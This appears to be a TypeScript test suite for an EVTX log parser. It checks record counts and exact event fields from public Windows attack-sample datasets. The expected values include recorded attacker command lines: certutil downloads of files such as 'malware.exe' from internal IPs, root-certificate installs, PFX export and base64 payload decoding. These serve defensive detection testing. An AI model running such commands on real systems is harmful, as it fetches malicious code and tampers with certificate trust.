// Every dataset .evtx parsed through readEvtxFile (streaming from disk): the record and per-EventID counts
// and the key events that ../shared/datasets/README.md names (certutil command lines, certificate
// registry targets, 4656 handle requests on the ROOT store) come out with the exact values.
import { expect } from 'chai';
import { join } from 'node:path';
import { DATASETS, datasetsPresent, requireOrSkip } from '../../helpers/env.js';
import { readEvtxFile } from '../../../harness/telemetry/parsers/evtx/index.js';
import type { ParseWarning } from '../../../harness/model/event.js';
import type { WindowsEventRecord } from '../../../harness/telemetry/record.js';

const SIGMA = 'SigmaHQ-sigma-regression_data';
const COUNTS: Array<[string, number, Record<number, number>]> = [
  [`${SIGMA}/proc_creation_win_certutil_certificate_installation/d2125259-ddea-4c1c-9c22-977eb5b29cf0.evtx`, 1, { 1: 1 }],
  [`${SIGMA}/proc_creation_win_certutil_download/19b08b1c-861d-4e75-a1ef-ea0c1baf202b.evtx`, 1, { 1: 1 }],
  [`${SIGMA}/proc_creation_win_certutil_download_direct_ip/13e6fe51-d478-4c7e-b0f2-6da9b400a829.evtx`, 1, { 1: 1 }],
  [`${SIGMA}/proc_creation_win_certutil_download_file_sharing_domains/42a5f1e7-9603-4f6d-97ae-3f37d130d794.evtx`, 1, { 1: 1 }],
  [`${SIGMA}/proc_creation_win_certutil_export_pfx/3ffd6f51-e6c1-47b7-94b4-c1e61d4117c5.evtx`, 1, { 1: 1 }],
  [`${SIGMA}/proc_creation_win_certutil_user_store_enumeration/3b7e1f2a-84cd-4e91-b3d6-c57a902f8e34.evtx`, 1, { 1: 1 }],
  [`${SIGMA}/registry_set_install_root_or_ca_certificat/d223b46b-5621-4037-88fe-fda32eead684.evtx`, 1, { 13: 1 }],
  ['EVTX-to-MITRE-Attack/TA0005-Defense Evasion/T1140-Deobfuscate-Decode Files or Information/ID4688-Certutil download.evtx', 2, { 4688: 1, 1102: 1 }],
  ['EVTX-to-MITRE-Attack/EVTX_full_APT_attack_steps/ID4688,5140,5145-WMIexec execution via SMB (GLOBAL).evtx', 97,
    { 5145: 29, 5140: 19, 5447: 8, 4688: 6, 4658: 6, 4964: 5, 4672: 5, 4624: 5, 4627: 5, 4690: 3, 4656: 3, 4674: 2, 1102: 1 }],
  ['EVTX-to-MITRE-Attack/TA0004-Privilege Escalation/T1574-DLL side-loading/ID4688,6416,4648-SystemNightMare.evtx', 53,
    { 4658: 20, 4656: 12, 4690: 10, 4688: 7, 6416: 2, 4648: 1, 1102: 1 }],
  ['EVTX-to-MITRE-Attack/TA0005-Defense Evasion/T1562.004-Impair Defenses-Disable or Modify System Firewall/ID4688-5447-4950-Firewall disabled (command).evtx', 998,
    { 5447: 984, 4950: 6, 4688: 5, 4656: 1, 4670: 1, 1102: 1 }],
  ['EVTX-ATTACK-SAMPLES/AutomatedTestingTools/panache_sysmon_vs_EDRTestingScript.evtx', 122, { 1: 96, 3: 8, 7: 8, 11: 5, 13: 4, 12: 1 }],
  ['EVTX-ATTACK-SAMPLES/AutomatedTestingTools/PanacheSysmon_vs_AtomicRedTeam01.evtx', 565, { 1: 511, 13: 30, 7: 5, 11: 4, 3: 4, 12: 3, 19: 2, 20: 2, 21: 2, 5: 1, 10: 1 }],
  ['EVTX-ATTACK-SAMPLES/Privilege Escalation/Sysmon_UACME_64.evtx', 530, { 7: 511, 12: 7, 1: 3, 23: 3, 11: 2, 5: 2, 10: 1, 22: 1 }],
  ['EVTX-ATTACK-SAMPLES/Credential Access/babyshark_mimikatz_powershell.evtx', 33, { 7: 11, 1: 7, 12: 4, 11: 3, 16: 2, 5: 2, 10: 2, 4: 1, 3: 1 }],
  ['hayabusa-sample-evtx/YamatoSecurity/Sysmon/Sysmon-27-BlockExeWrite_AbusingCertutil.evtx', 7, { 1: 1, 10: 1, 11: 2, 27: 3 }],
];

describe('EVTX parser on every dataset file (streamed from disk)', function () {
  this.timeout(60_000);
  const parsed = new Map<string, WindowsEventRecord[]>();
  const warnings: ParseWarning[] = [];

  before(async function () {
    requireOrSkip(this, datasetsPresent(), `datasets not found at ${DATASETS}`);
    for (const [rel] of COUNTS) {
      const recs: WindowsEventRecord[] = [];
      for await (const r of readEvtxFile(join(DATASETS, rel), { onWarning: (w) => warnings.push(w) })) recs.push(r);
      parsed.set(rel, recs);
    }
  });
  const file = (part: string): WindowsEventRecord[] => [...parsed.entries()].find(([k]) => k.includes(part))![1];
  const byRecordId = (part: string, id: number): WindowsEventRecord => file(part).find((r) => r.recordId === id)!;

  it('yields the record count and the per-EventID counts of each file, without warnings', function () {
    expect(warnings).to.deep.equal([]);
    for (const [rel, total, eids] of COUNTS) {
      const recs = parsed.get(rel)!;
      const got: Record<number, number> = {};
      for (const r of recs) got[r.eventId] = (got[r.eventId] ?? 0) + 1;
      expect(recs.length, rel).to.equal(total);
      expect(got, rel).to.deep.equal(eids);
      expect(recs.every((r) => r.origin.format === 'evtx' && r.origin.file === join(DATASETS, rel) && typeof r.origin.offset === 'number')).to.equal(true);
    }
  });

  it('reads the SigmaHQ certutil process creations exactly', function () {
    const inst = file('certificate_installation')[0];
    expect(inst).to.include({ provider: 'Microsoft-Windows-Sysmon', eventId: 1, channel: 'Microsoft-Windows-Sysmon/Operational' });
    expect(inst.eventData).to.include({
      Image: 'C:\\Windows\\System32\\certutil.exe',
      CommandLine: 'certutil  -addstore -f root C:\\Users\\ADMINI~1\\AppData\\Local\\Temp\\cert.cer',
      ParentImage: 'C:\\Windows\\System32\\cmd.exe',
      OriginalFileName: 'CertUtil.exe',
      IntegrityLevel: 'High',
      User: 'ATTACKRANGE\\Administrator',
      UtcTime: '2025-10-25 16:54:23.866',
    });
    expect(file('certutil_download/')[0].eventData.CommandLine).to.equal(
      'certutil.exe  -urlcache -f https://raw.githubusercontent.com/redcanaryco/atomic-red-team/refs/heads/master/atomics/T1001.002/T1001.002.yaml atomic.yaml',
    );
    expect(file('certutil_download/')[0].recordId).to.equal(11537869);
    // The origin names the EventRecordID too (the exported file renumbered its record headers from 1).
    expect(file('certutil_download/')[0].origin).to.deep.include({ recordId: 11537869, offset: 4096 + 512 });
    expect(file('file_sharing_domains')[0].recordId).to.equal(11537869);
    expect(file('direct_ip')[0].eventData.CommandLine).to.equal('certutil.exe  -urlcache -f http://10.0.1.14/malware.exe malware-ctl.exe');
    expect(file('export_pfx')[0].eventData.CommandLine).to.equal('certutil  -p secret_password -exportPFX root 1c6119aff8414c91487c4e02d18dd73D c:\\cert.pfx');
    expect(file('user_store_enumeration')[0].eventData).to.include({ CommandLine: 'certutil  -user -store Root', User: 'swachchhanda\\xodih', ParentImage: 'C:\\Windows\\System32\\cmd.exe' });
  });

  it('reads the SigmaHQ Sysmon 13 write under SystemCertificates\\CA', function () {
    const r = file('registry_set_install_root_or_ca_certificat')[0];
    expect(r.eventId).to.equal(13);
    expect(r.computer).to.equal('SigmaCatchVm');
    expect(r.eventData).to.include({
      EventType: 'SetValue',
      Image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
      TargetObject: 'HKU\\S-1-5-21-4246997345-1000708036-2014123355-1001\\Software\\Microsoft\\SystemCertificates\\CA\\Certificates\\67CB47F0FE1CE30BE53C368173B985747E9762D0\\Blob',
      Details: 'Binary Data',
      RuleName: 'technique_id=T1553.004,technique_name=Install Root Certificate',
      User: 'SigmaCatchVm\\frack113',
    });
  });

  it('reads the Security 4688 certutil download (no ParentProcessName) and the 4656 ROOT store handles', function () {
    const r = file('ID4688-Certutil download').find((x) => x.eventId === 4688)!;
    expect(r.computer).to.equal('fs03vuln.offsec.lan');
    expect(r.timeCreatedRaw).to.match(/^2021-11-02T14:15:2\d\.\d{7}Z$/);
    expect(r.eventData).to.include({ NewProcessName: 'C:\\Windows\\System32\\certutil.exe', SubjectUserName: 'admmig', TokenElevationType: '%%1937' });
    expect(r.eventData.CommandLine).to.match(/^certutil {2}-urlcache -split -f https:\/\/github\.com\/mdecrevoisier\/EVTX-to-MITRE-Attack\/blob\/master\/.*\.evtx virus\.exe$/);
    expect(r.eventData).to.not.have.property('ParentProcessName');
    const h = file('WMIexec').filter((x) => x.eventId === 4656);
    expect(h.map((x) => x.eventData.ObjectName)).to.include.members([
      '\\REGISTRY\\MACHINE\\SOFTWARE\\Microsoft\\SystemCertificates\\ROOT\\Certificates',
      '\\REGISTRY\\MACHINE\\SOFTWARE\\Policies\\Microsoft\\SystemCertificates\\Root\\Certificates',
    ]);
    // AccessMask is a hex32 value: in the default Windows style it reads 0x3001f, as Windows and QRadar show it.
    expect(h.every((x) => x.eventData.ProcessName === 'C:\\Windows\\System32\\cscript.exe' && x.eventData.ObjectType === 'Key' && x.eventData.AccessMask === '0x3001f')).to.equal(true);
    const d = file('SystemNightMare').filter((x) => x.eventId === 4656 && x.eventData.ProcessName === 'C:\\Windows\\System32\\drvinst.exe' && /SystemCertificates\\Root\\Certificates$/i.test(x.eventData.ObjectName));
    expect(d).to.have.length(4);
  });

  it('reads the EVTX-ATTACK-SAMPLES certutil and certificate-key events', function () {
    const dl = byRecordId('panache_sysmon_vs_EDR', 4980);
    expect(dl.eventData).to.include({ Image: 'C:\\Windows\\System32\\certutil.exe', ParentImage: 'C:\\Windows\\System32\\cmd.exe', IntegrityLevel: 'High' });
    expect(dl.eventData.CommandLine).to.equal('certutil.exe  -urlcache -split -f https://raw.githubusercontent.com/op7ic/EDR-Testing-Script/master/Payloads/CradleTest.txt Default_File_Path2.ps1  '); // two trailing spaces, as recorded
    for (const id of [4981, 4982]) {
      expect(byRecordId('panache_sysmon_vs_EDR', id)).to.deep.include({ eventId: 3 });
      expect(byRecordId('panache_sysmon_vs_EDR', id).eventData).to.include({ Image: 'C:\\Windows\\System32\\certutil.exe', DestinationIp: '151.101.0.133', DestinationPort: '443', Initiated: 'true' });
    }
    expect(byRecordId('panache_sysmon_vs_EDR', 4981).eventData.RuleName).to.equal('Suspicious NetCon');
    expect(byRecordId('panache_sysmon_vs_EDR', 4890).eventData.CommandLine).to.contain('certutil  -f -decode fi.b64 AllTheThings.dll');
    expect(byRecordId('PanacheSysmon_vs_AtomicRedTeam01', 4062).eventData.CommandLine).to.equal('certutil.exe  -encode c:\\file.exe file.txt');
    expect(byRecordId('PanacheSysmon_vs_AtomicRedTeam01', 4070).eventData).to.include({ Image: 'C:\\Users\\IEUser\\AppData\\Local\\Temptcm.tmp', Description: 'CertUtil.exe' });
    const uac = file('Sysmon_UACME_64').filter((x) => x.eventId === 12 && x.eventData.RuleName === 'technique_id=T1130,technique_name=Install Root Certificate');
    expect(uac).to.have.length(7);
    expect(uac.filter((x) => x.eventData.Image === 'C:\\Windows\\system32\\consent.exe' && x.eventData.EventType === 'CreateKey')).to.have.length(4);
    expect(uac.map((x) => x.eventData.TargetObject)).to.include('HKLM\\SOFTWARE\\Microsoft\\SystemCertificates\\ROOT\\Certificates');
    const shark = file('babyshark').filter((x) => x.eventId === 12 && x.eventData.Image === 'C:\\Windows\\Sysmon.exe');
    expect(shark.map((x) => x.eventData.TargetObject)).to.include.members([
      'HKU\\.DEFAULT\\Software\\Microsoft\\SystemCertificates\\Root\\Certificates',
      'HKLM\\SOFTWARE\\Microsoft\\SystemCertificates\\ROOT\\Certificates',
      'HKLM\\SOFTWARE\\Policies\\Microsoft\\SystemCertificates\\Root\\Certificates',
    ]);
  });

  it('reads the hayabusa certutil -urlcache run (Sysmon 1, 10, 11, 27)', function () {
    const r = byRecordId('Sysmon-27-BlockExeWrite', 1339);
    expect(r.eventData).to.include({
      Image: 'C:\\Windows\\System32\\certutil.exe',
      CommandLine: '"C:\\Windows\\system32\\certutil.exe" -urlcache -split -f http://192.168.158.128:8000/calc.exe C:\\Users\\user\\Desktop\\calc.exe',
      IntegrityLevel: 'Medium',
      OriginalFileName: 'CertUtil.exe',
    });
    const recs = file('Sysmon-27-BlockExeWrite');
    expect(recs.find((x) => x.eventId === 10)!.eventData.GrantedAccess).to.equal('0x1fffff');
    expect(recs.filter((x) => x.eventId === 11).map((x) => x.eventData.TargetFilename)).to.include('C:\\Users\\user\\Desktop\\calc.exe');
    expect(recs.find((x) => x.eventId === 27)!.eventData.TargetFilename).to.equal('C:\\Users\\user\\AppData\\LocalLow\\Microsoft\\CryptnetUrlCache\\Content\\02E7958E9A9619FDA0A027756E601291');
  });
});
